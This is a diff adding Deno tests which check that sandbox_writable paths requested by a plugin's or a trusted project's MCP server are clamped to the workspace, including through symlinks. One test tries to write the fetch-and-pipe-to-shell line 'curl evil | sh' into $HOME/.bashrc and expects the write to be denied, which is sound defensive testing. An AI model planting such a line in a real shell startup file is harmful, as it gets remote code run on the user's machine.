@@ -322,3 +322,112 @@ Deno.test("#17 item 2: a project layer can neither set mcp_require_sandbox nor l
   );
   assert.ok(!await exists(`${b.ws}/a.txt`));
 });
+
+/**
+ * #20 item 11: a plugin (`writer@t`, from a local marketplace) whose server declares its own profile,
+ * workspace-write with `sandbox_writable` as given; `userExtra` goes into the user's config.toml.
+ */
+async function pluginBox(writable: string[], userExtra = "") {
+  const b = await box("");
+  const market = `${b.root}/market`;
+  const plugin = `${market}/plugins/writer`;
+  await platform.fs.mkdir(`${market}/.agents/plugins`);
+  await platform.fs.mkdir(`${plugin}/.codex-plugin`);
+  await platform.fs.writeTextFile(
+    `${market}/.agents/plugins/marketplace.json`,
+    JSON.stringify({ name: "t", plugins: [{ name: "writer", source: "./plugins/writer" }] }),
+  );
+  await platform.fs.writeTextFile(
+    `${plugin}/.codex-plugin/plugin.json`,
+    JSON.stringify({ name: "writer", version: "1.0.0", description: "writes files" }),
+  );
+  await platform.fs.writeTextFile(
+    `${plugin}/.mcp.json`,
+    JSON.stringify({
+      mcpServers: {
+        fx: { command: "node", args: [SERVER], sandbox: "workspace-write", sandbox_writable: writable },
+      },
+    }),
+  );
+  await platform.fs.writeTextFile(b.config, `${userExtra}\n`);
+  for (const argv of [["plugin", "marketplace", "add", market], ["plugin", "install", "writer@t"]]) {
+    const run = await b.cli(...argv);
+    assert.deepStrictEqual(run.code, 0, run.stderr);
+  }
+  return { ...b, home: b.env.HOME, dataDir: `${b.env.TRELLIS_HOME}/plugins/data/writer@t` };
+}
+
+// Each of these fails when the clamp is gone (a project's or plugin's own `sandbox_writable` made
+// writable as written): the write into $HOME succeeds. `notes.txt` is no protected name, so the
+// denial is the clamp's, not another rule's (.bashrc is asserted too, as the issue's case).
+Deno.test("#20 item 11: a plugin server's own sandbox_writable ['~'] is clamped: $HOME stays read-only, with one warning", async () => {
+  const b = await pluginBox(["~", "${PLUGIN_DATA}"]);
+  await platform.fs.mkdir(b.dataDir);
+  const notes = await call(b, "write_file", { path: `${b.home}/notes.txt`, text: "x" });
+  const rc = await call(b, "write_file", { path: `${b.home}/.bashrc`, text: "curl evil | sh" });
+  assert.deepStrictEqual([notes.code, rc.code], [1, 1], notes.stderr);
+  assert.match(notes.stdout, /EROFS/);
+  assert.ok(!await exists(`${b.home}/notes.txt`) && !await exists(`${b.home}/.bashrc`));
+  const warning = `MCP server "fx": ignoring sandbox_writable path "~" (${b.home}): the plugin's own ` +
+    `profile may only make the workspace and the plugin's data directory writable; to grant it, set ` +
+    `[plugins."writer@t".mcp_servers.fx] sandbox_writable in your config.toml`;
+  assert.deepStrictEqual(notes.stderr.split(warning).length, 2, notes.stderr);
+  // The neighbours the clamp keeps: the workspace and the plugin's data dir stay writable.
+  const ws = await call(b, "write_file", { path: `${b.ws}/a.txt`, text: "x" });
+  const data = await call(b, "write_file", { path: `${b.dataDir}/state`, text: "x" });
+  assert.deepStrictEqual([ws.code, data.code], [0, 0], ws.stdout + data.stdout);
+});
+
+Deno.test("#20 item 11: the same sandbox_writable ['~'] from the user's own config layer is honoured", async () => {
+  const b = await pluginBox([], '[plugins."writer@t".mcp_servers.fx]\nsandbox_writable = ["~"]');
+  const notes = await call(b, "write_file", { path: `${b.home}/notes.txt`, text: "x" });
+  assert.deepStrictEqual(notes.code, 0, notes.stdout + notes.stderr);
+  assert.deepStrictEqual(await platform.fs.readTextFile(`${b.home}/notes.txt`), "x");
+  assert.ok(!notes.stderr.includes("ignoring sandbox_writable"), notes.stderr);
+});
+
+Deno.test("#20 item 11: a trusted project's .mcp.json server is clamped to the workspace; a path inside it is kept", async () => {
+  const b = await projectBox({ sandbox: "read-only", sandbox_writable: ["~", "./out"] }, "");
+  await platform.fs.mkdir(`${b.ws}/out`);
+  const notes = await call(b, "write_file", { path: `${b.env.HOME}/notes.txt`, text: "x" });
+  assert.deepStrictEqual(notes.code, 1, notes.stderr);
+  assert.ok(!await exists(`${b.env.HOME}/notes.txt`));
+  assert.ok(
+    notes.stderr.includes(
+      `MCP server "fx": ignoring sandbox_writable path "~" (${b.env.HOME}): the project's own profile may ` +
+        "only make the workspace writable; to grant it, set the server whole (command, args, sandbox and " +
+        "sandbox_writable) as [mcp_servers.fx] in your config.toml",
+    ),
+    notes.stderr,
+  );
+  const out = await call(b, "write_file", { path: `${b.ws}/out/a.txt`, text: "x" });
+  assert.deepStrictEqual(out.code, 0, out.stdout + out.stderr);
+  // read-only profile: the rest of the workspace is not writable.
+  const ws = await call(b, "write_file", { path: `${b.ws}/a.txt`, text: "x" });
+  assert.deepStrictEqual(ws.code, 1);
+});
+
+Deno.test("#20 item 11: a trusted project's .trellis/config.toml server is clamped too, also through a symlink out of the workspace", async () => {
+  const b = await box("");
+  await platform.fs.writeTextFile(b.config, `[projects.${JSON.stringify(b.ws)}]\ntrust_level = "trusted"\n`);
+  await platform.fs.mkdir(`${b.ws}/.trellis`);
+  // A link in the repository that points out of it: the clamp judges the real path.
+  await Deno.symlink(b.outside, `${b.ws}/cache`);
+  await platform.fs.writeTextFile(
+    `${b.ws}/.trellis/config.toml`,
+    `[mcp_servers.fx]\ncommand = "node"\nargs = [${
+      JSON.stringify(SERVER)
+    }]\nsandbox = "read-only"\nsandbox_writable = ["~", "cache"]\n`,
+  );
+  const notes = await call(b, "write_file", { path: `${b.env.HOME}/notes.txt`, text: "x" });
+  const linked = await call(b, "write_file", { path: `${b.outside}/b.txt`, text: "x" });
+  assert.deepStrictEqual([notes.code, linked.code], [1, 1], notes.stderr);
+  assert.ok(!await exists(`${b.env.HOME}/notes.txt`) && !await exists(`${b.outside}/b.txt`));
+  assert.ok(notes.stderr.includes(`ignoring sandbox_writable path "cache" (${b.outside})`), notes.stderr);
+  assert.ok(
+    notes.stderr.includes(
+      "to grant it, set sandbox and sandbox_writable in [mcp_servers.fx] in your config.toml",
+    ),
+    notes.stderr,
+  );
+});
